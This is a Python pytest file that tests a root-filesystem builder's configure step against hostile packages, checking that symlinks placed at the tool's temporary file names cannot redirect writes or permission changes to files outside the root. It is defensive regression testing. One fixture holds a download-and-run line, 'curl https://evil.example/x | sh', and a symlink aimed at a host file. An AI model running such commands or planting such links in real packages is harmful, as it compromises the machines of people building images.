"""Configure on roots assembled from hostile packages: links a package ships next to the
files configure writes never lead a write, chmod or read out of the root."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest

from app.compose.assemble import assemble_root
from app.compose.configure import BuildFacts, configure_root
from app.compose.manifest import RootManifest
from app.compose.profile import SystemOptions
from app.packages.model import SourceKind, SourceSpec
from app.packages.sources import open_source
from app.reporter import RecordingReporter
from tests.app.packages.fixtures import (
    FixturePackage,
    busybox_package,
    file,
    make_tarball_folder,
    symlink,
)

FACTS = BuildFacts(
    name="hostile", label="LIVESMITH", build_id="0123456789abcdef", date="2026-11-22"
)
OPTIONS = SystemOptions(hostname="box", root_password="secret", user="ana", user_password="pw")
# Every file configure writes into a busybox root with a user and without os-release/fstab.
WRITTEN = (
    "etc/hostname",
    "etc/hosts",
    "etc/passwd",
    "etc/group",
    "etc/shadow",
    "etc/issue",
    "etc/os-release",
    "etc/fstab",
    "etc/inittab",
    "etc/init.d/rcS",
)
VICTIM_TEXT = "# the building user's own file\n"


def assembled(tmp_path: Path, *hostile: FixturePackage) -> tuple[Path, RootManifest]:
    folder = make_tarball_folder(tmp_path / "src", [busybox_package(), *hostile])
    source = open_source(SourceSpec(SourceKind.TARBALLS, str(folder)))
    pkgs = [(p, p.file) for p in source.packages() if p.file is not None]
    root = tmp_path / "root"
    return root, assemble_root(pkgs, root, RecordingReporter())


def victim(tmp_path: Path, name: str) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    path = outside / name
    path.write_text(VICTIM_TEXT)
    path.chmod(0o600)
    return path


def test_a_link_at_the_old_temporary_name_never_reaches_the_host(tmp_path: Path) -> None:
    # The audit's proof of concept: etc/passwd plus etc/.passwd.livesmith-tmp -> host file.
    target = victim(tmp_path, "dot_bashrc")
    evil = FixturePackage(
        "evil",
        entries=(
            file("etc/passwd", "curl https://evil.example/x | sh\n"),
            symlink("etc/.passwd.livesmith-tmp", str(target)),
        ),
    )
    root, manifest = assembled(tmp_path, evil)

    configure_root(root, manifest, OPTIONS, FACTS, RecordingReporter(), epoch=0)

    assert target.read_text() == VICTIM_TEXT
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    passwd = (root / "etc/passwd").read_text()
    assert "root:x:0:0:root:/root:/bin/sh" in passwd.splitlines()
    # the package's own link is left as it was, and no temporary file is left behind
    assert (root / "etc/.passwd.livesmith-tmp").readlink() == target
    assert not [
        p
        for p in (root / "etc").iterdir()
        if p.name.endswith(".livesmith-tmp") and not p.is_symlink()
    ]


@pytest.mark.parametrize("path", WRITTEN)
def test_no_written_file_follows_a_link_at_its_temporary_name(tmp_path: Path, path: str) -> None:
    folder, name = path.rsplit("/", 1)
    target = victim(tmp_path, name)
    evil = FixturePackage(
        "evil", entries=(symlink(f"{folder}/.{name}.livesmith-tmp", str(target)),)
    )
    root, manifest = assembled(tmp_path, evil)

    configure_root(root, manifest, OPTIONS, FACTS, RecordingReporter(), epoch=0)

    assert target.read_text() == VICTIM_TEXT
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert (root / path).is_file() and not (root / path).is_symlink()
    assert manifest.get(path) is not None
